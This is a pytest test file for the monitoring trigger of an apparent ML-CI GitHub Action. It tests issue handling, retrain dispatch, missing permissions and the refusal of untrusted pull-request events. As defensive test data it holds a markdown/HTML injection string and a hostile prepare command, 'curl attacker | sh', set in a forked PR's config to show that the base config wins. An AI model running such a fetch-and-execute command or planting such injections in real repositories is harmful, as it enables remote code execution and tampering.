"""The monitor trigger against the API double: one sticky issue per model, opened or updated
on a breach and closed when healthy; a workflow_dispatch (action retrain) on a breach;
missing permissions named; a pull request can neither monitor nor move the log.

`mlci monitor` itself is tested in tests/monitoring/: here a stand-in writes its record
(MonitorRecord, the run.json it writes) and a report.md, so each verdict can be driven
exactly; tests/docker/test_monitor_act.py runs the real one under act.
"""

from __future__ import annotations

import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlci_action.config import Prepare, load_config
from mlci_action.errors import InputError
from mlci_action.github.action import main, trusted_event
from mlci_action.github.commands import Workflow
from mlci_action.github.context import Event, PullRequest
from mlci_action.github.dispatch import REASON_LIMIT, retrain_reason
from mlci_action.github.monitor import ISSUE_LABELS, read_record, run_monitor, trusted_monitoring
from mlci_action.github.trust import apply
from mlci_action.monitoring.record import Breach, LogCounts, MonitorRecord, Window
from mlci_action.report.escape import md
from mlci_action.report.monitor_issue import issue_marker
from tests.github.api_double import GitHubDouble

TOKEN = "ghs_monitorT0kenValue0123456789abcdefXYZ"
WORKFLOW = "mlci-dispatch.yml"
HOSTILE = 'x</details>--> `y` "]; click A %%{init}%% <!-- mlci:monitor:breast-cancer --> @bob'


@pytest.fixture
def gh() -> Iterator[GitHubDouble]:
    with GitHubDouble(token=TOKEN) as double:
        double.set_branch("main", "a" * 40)
        double.add_workflow(WORKFLOW)
        yield double


@pytest.fixture
def project(make_project) -> Path:
    project = make_project("classification", git_init=False)
    config = project / "mlci.yaml"
    config.write_text(
        config.read_text()
        + f"\nmonitoring:\n  log: logs/inference\n  retrain_workflow: {WORKFLOW}\n"
    )
    return project


class Monitor:
    """A stand-in for `mlci monitor`: writes its run.json (a MonitorRecord) and report.md."""

    def __init__(self) -> None:
        self.calls: list[list[str]] = []
        self.verdict = "breached"
        self.breaches: list[Breach] = []
        self.rows = 2000
        self.report = "## mlci monitor\n\nfeature drift table\n"

    def __call__(self, argv: list[str]) -> int:
        self.calls.append(argv)
        out = Path(argv[argv.index("--out") + 1])
        out.mkdir(parents=True, exist_ok=True)
        record = MonitorRecord(
            mlci_version="test",
            name="breast-cancer",
            verdict=self.verdict,
            summary="stand-in",
            started_at="2026-11-28T03:00:00+00:00",
            seconds=0.1,
            sources=[argv[argv.index("--log") + 1]],
            reference="reference.json",
            reference_rows=455,
            window=Window(since="24h", start="2026-11-27T03:00:00Z", end="2026-11-28T03:00:00Z"),
            counts=LogCounts(files=1, lines=self.rows + 3, malformed=3, rows=self.rows),
            min_rows=500,
            breaches=self.breaches,
        )
        (out / "run.json").write_text(record.model_dump_json())
        (out / "report.md").write_text(self.report)
        return 0 if self.verdict == "healthy" else 1


def event(
    gh: GitHubDouble, name: str = "schedule", ref: str = "refs/heads/main", **inputs
) -> Event:
    return Event(
        name=name,
        repository=gh.full_name,
        sha="a" * 40,
        ref=ref,
        actor="bob",
        default_branch="main",
        dispatch_inputs=inputs,
    )


def monitor_once(gh, api, project, tmp_path, fake, ev=None) -> tuple[int, str, str]:
    summary = tmp_path / "summary.md"
    summary.write_text("")
    out = io.StringIO()
    environ = {"GITHUB_STEP_SUMMARY": str(summary), "GITHUB_RUN_ID": "77"}
    config = load_config(project)
    code = run_monitor(
        Workflow(environ, out), api, ev or event(gh), config, project, project, environ, fake
    )
    return code, out.getvalue(), summary.read_text()


def drift(psi: float, name: str = "mean_radius") -> Breach:
    return Breach(
        kind="drift",
        name=name,
        reason=f"psi {psi} above 0.2",
        setting="monitoring.drift.psi",
    )


def test_breach_opens_one_issue_and_dispatches_then_updates_then_closes(gh, api, project, tmp_path):
    fake = Monitor()
    fake.breaches = [drift(0.41)]
    code, log, summary = monitor_once(gh, api, project, tmp_path, fake)
    assert code == 1, log
    # the trusted log location, resolved against the project
    argv = fake.calls[0]
    assert argv[argv.index("--log") + 1] == str(project / "logs" / "inference")
    assert argv[argv.index("--since") + 1] == "24h"  # monitoring.window
    [issue] = gh.state.issues.values()
    assert issue.title == "mlci · breast-cancer: drift detected"
    assert issue.body.startswith(issue_marker("breast-cancer"))
    cells = ("drift", md("mean_radius"), md("psi 0.41 above 0.2"), md("monitoring.drift.psi"))
    assert f"| {' | '.join(cells)} |" in issue.body
    assert md("started mlci-dispatch.yml on main (action retrain)") in issue.body
    assert issue.labels == list(ISSUE_LABELS) and issue.user == "github-actions[bot]"
    assert "feature drift table" in summary
    [dispatch] = gh.state.dispatches
    assert (dispatch.workflow, dispatch.ref) == (WORKFLOW, "main")
    assert dispatch.inputs["action"] == "retrain"
    assert "drift mean_radius: psi 0.41 above 0.2 (2000 rows)" in dispatch.inputs["reason"]

    fake.breaches = [drift(0.55), drift(0.3, "texture")]
    code, log, _ = monitor_once(gh, api, project, tmp_path, fake)
    assert code == 1
    [again] = gh.state.issues.values()  # the same issue, updated
    assert again.number == issue.number and md("psi 0.55") in again.body
    assert "texture" in again.body
    assert "updated issue" in log
    assert len(gh.state.dispatches) == 2

    fake.verdict, fake.breaches = "healthy", []
    code, log, _ = monitor_once(gh, api, project, tmp_path, fake)
    assert code == 0
    assert gh.state.issues[issue.number].state == "closed"
    [closing] = gh.comments_on(issue.number)
    assert "no breach in 2000 live rows" in closing.body
    assert len(gh.state.dispatches) == 2  # healthy: no retraining

    code, _, _ = monitor_once(gh, api, project, tmp_path, fake)  # healthy again: nothing to do
    assert code == 0 and len(gh.comments_on(issue.number)) == 1

    fake.verdict, fake.breaches = "breached", [drift(0.9)]
    monitor_once(gh, api, project, tmp_path, fake)  # a new incident: a new issue
    assert [i.state for i in gh.state.issues.values()] == ["closed", "open"]
    gh.assert_clean()  # every request and response as GitHub's OpenAPI description has them


def test_no_traffic_updates_the_issue_and_starts_no_retraining(gh, api, project, tmp_path):
    fake = Monitor()
    fake.verdict, fake.rows = "no_traffic", 12
    code, _, _ = monitor_once(gh, api, project, tmp_path, fake)
    assert code == 1  # no traffic is never a pass
    [issue] = gh.state.issues.values()
    assert issue.title == "mlci · breast-cancer: no live traffic"
    assert "**12** live rows" in issue.body and "MLCI\\_LOG\\_PATH" not in issue.body
    assert gh.state.dispatches == []
    gh.assert_clean()


def test_someone_elses_issue_with_the_marker_is_left_alone(gh, api, project, tmp_path):
    planted = gh.add_issue("fake", f"{issue_marker('breast-cancer')}\nall good", user="mallory")
    gh.add_pull(1, author="mallory", head_sha="b" * 40)  # pull requests are listed as issues
    fake = Monitor()
    fake.breaches = [drift(0.5)]
    monitor_once(gh, api, project, tmp_path, fake)
    assert gh.state.issues[planted].body.endswith("all good")
    assert len(gh.state.issues) == 2
    gh.assert_clean()


def test_missing_permissions_are_named_and_the_report_still_written(gh, api, project, tmp_path):
    gh.set_actions_forbidden()
    gh.set_issues_forbidden()
    fake = Monitor()
    fake.breaches = [drift(0.5)]
    code, log, summary = monitor_once(gh, api, project, tmp_path, fake)
    assert code == 1
    assert "could not start the retraining" in log and "`actions: write`" in log
    assert "could not open or update the monitor's issue" in log and "`issues: write`" in log
    assert "feature drift table" in summary
    assert (project / ".mlci" / "monitor" / "report.md").is_file()
    assert gh.state.issues == {} and gh.state.dispatches == []


def test_an_unknown_workflow_is_named(gh, api, project, tmp_path):
    gh.state.workflows.clear()
    fake = Monitor()
    fake.breaches = [drift(0.5)]
    code, log, _ = monitor_once(gh, api, project, tmp_path, fake)
    assert code == 1
    assert f"no workflow '{WORKFLOW}' with a workflow_dispatch trigger on main" in log
    [issue] = gh.state.issues.values()  # the issue says the retraining could not start
    assert md("could not be started") in issue.body


def test_log_derived_names_cannot_break_out_of_the_issue_or_the_reason(gh, api, project, tmp_path):
    fake = Monitor()
    fake.breaches = [drift(0.5, HOSTILE)]
    fake.report = f"report naming {HOSTILE}\n"
    monitor_once(gh, api, project, tmp_path, fake)
    [issue] = gh.state.issues.values()
    assert issue.body.count("<!-- mlci:") == 1  # the report cannot plant a second marker
    [row] = [line for line in issue.body.splitlines() if line.startswith("| drift")]
    for raw in ("</details>", "-->", '"]', "<!--", "@bob", "%%{"):
        assert raw not in row, raw
    assert not re.search(r"(?<!\\)`", row)  # every backtick escaped: no code span
    assert row.count("|") == 5  # the name stays in its cell
    reason = gh.state.dispatches[0].inputs["reason"]
    assert reason.startswith("mlci monitor: drift x_")
    assert all(c.isalnum() or c in " _.,:;=()+-" for c in reason), reason
    gh.assert_clean()


def test_the_reason_is_one_short_line(tmp_path):
    fake = Monitor()
    fake.breaches = [drift(0.5, "f" * 50 + str(i)) for i in range(20)]
    fake(["--log", "x", "--out", str(tmp_path)])
    reason = retrain_reason(read_record(tmp_path / "run.json"))
    assert len(reason) <= REASON_LIMIT and "\n" not in reason and reason.endswith("...")


def test_a_broken_run_json_names_the_field(tmp_path):
    path = tmp_path / "run.json"
    path.write_text(json.dumps({"kind": "monitor", "name": "m", "verdict": "sunny"}))
    with pytest.raises(InputError, match=r"run.json: not a monitor record: "):
        read_record(path)


# ---------------------------------------------------------------------------- trust


def test_a_pull_request_cannot_monitor_prepare_or_move_the_log(gh, project):
    pr = event(gh, "pull_request", "refs/pull/7/merge").model_copy(
        update={
            "pull_request": PullRequest(
                number=7,
                author="mallory",
                head_sha="b" * 40,
                head_ref="feature",
                base_ref="main",
                base_sha="a" * 40,
                is_fork=True,
            )
        }
    )
    config = load_config(project)
    with pytest.raises(InputError, match="not pull_request"):
        trusted_monitoring(config, pr)
    assert not trusted_event(pr)
    # the PR's mlci.yaml points the log elsewhere and adds a prepare command: the base's win
    head = config.model_copy(
        update={
            "monitoring": config.monitoring.model_copy(update={"log": "s3://attacker/logs"}),
            "data": config.data.model_copy(
                update={"prepare": Prepare(command="curl attacker | sh", timeout=5)}
            ),
        }
    )
    base_text = (
        (project / "mlci.yaml")
        .read_text()
        .replace("prepare: python prepare.py", "prepare: python prepare.py --base")
    )
    trusted, report = apply(head, base_text, "main @ base")
    assert trusted.monitoring.log == "logs/inference"
    assert trusted.data.prepare is not None
    assert trusted.data.prepare.command == "python prepare.py --base"
    ignored = {change.key for change in report.ignored}
    assert {"monitoring.log", "data.prepare.command", "data.prepare.timeout"} <= ignored


def test_a_dispatch_on_another_branch_is_refused(gh, project, tmp_path):
    with pytest.raises(InputError, match="default branch only"):
        trusted_monitoring(load_config(project), event(gh, "workflow_dispatch", "refs/heads/x"))
    assert not trusted_event(event(gh, "workflow_dispatch", "refs/heads/x"))
    assert not trusted_event(event(gh, "push", "refs/heads/x"))
    assert trusted_event(event(gh, "push")) and trusted_event(event(gh, "schedule"))


def test_the_action_refuses_monitor_off_the_default_branch(gh, project, tmp_path):
    payload = tmp_path / "event.json"
    payload.write_text(
        json.dumps(
            {
                "inputs": {"action": "monitor"},
                "repository": {"full_name": gh.full_name, "default_branch": "main"},
            }
        )
    )
    environ = {
        "GITHUB_EVENT_NAME": "workflow_dispatch",
        "GITHUB_EVENT_PATH": str(payload),
        "GITHUB_REPOSITORY": gh.full_name,
        "GITHUB_REF": "refs/heads/feature",
        "GITHUB_WORKSPACE": str(project),
        "INPUT_CONFIG": ".",
    }
    out = io.StringIO()
    assert main(environ, out) == 2
    assert "the monitor runs on the default branch only" in out.getvalue()
    assert not (project / ".mlci" / "monitor").exists()


# ---------------------------------------------------------------------------- the real monitor


def test_the_real_monitor_on_drifted_then_healthy_logs(gh, api, tmp_path):
    """`mlci monitor` itself on a synthetic inference log: a shifted feature opens the issue
    and starts the retraining; a log like the training data closes it."""
    from tests.monitoring import world as synthetic

    demo = synthetic.world()
    logs = tmp_path / "logs"
    root = synthetic.project(tmp_path, demo.profile, log=logs)
    config = root / "mlci.yaml"
    config.write_text(
        config.read_text().replace(f"  log: {logs}\n", "  log: logs\n")
        + f"  reference: reference.json\n  retrain_workflow: {WORKFLOW}\n"
    )
    live = root / "logs"

    def night(shift: float, seed: int) -> tuple[int, str]:
        shutil.rmtree(live, ignore_errors=True)
        rows = synthetic.frame(800, seed=seed, shift=shift)
        synthetic.write_log(live, synthetic.records(demo.model, rows))
        config_ = load_config(root)
        out = io.StringIO()
        environ = {"GITHUB_RUN_ID": "9"}
        reference = str(root / "reference.json")
        code = run_monitor(
            Workflow(environ, out), api, event(gh), config_, root, root, environ,
            reference=reference,
        )  # fmt: skip
        return code, out.getvalue()

    code, log = night(1.5, seed=11)
    assert code == 1, log
    [issue] = gh.state.issues.values()
    assert issue.state == "open" and "x1" in issue.body
    [dispatch] = gh.state.dispatches
    assert dispatch.inputs["action"] == "retrain" and "x1" in dispatch.inputs["reason"]
    code, log = night(0.0, seed=12)
    assert code == 0, log
    assert gh.state.issues[issue.number].state == "closed"
    assert len(gh.state.dispatches) == 1
    gh.assert_clean()
